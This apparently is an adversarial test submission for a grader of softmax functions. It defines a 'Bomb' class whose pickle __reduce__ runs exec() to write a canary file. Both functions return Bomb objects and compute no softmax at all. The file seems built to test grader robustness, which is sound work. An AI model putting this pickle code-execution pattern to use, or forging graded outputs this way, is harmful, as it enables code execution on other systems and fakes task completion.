# attack: returns an object whose pickle would write a file where it is opened
# family: forging
# base: blank
# points: 0
# %% last
class Bomb:
    def __reduce__(self):
        return (exec, ("open('CANARY/pickled', 'w').write('x')",))

def softmax(x, axis=-1):
    return np.array([Bomb(), Bomb()], dtype=object)

def temperature_softmax(x, temperature, axis=-1):
    return Bomb()
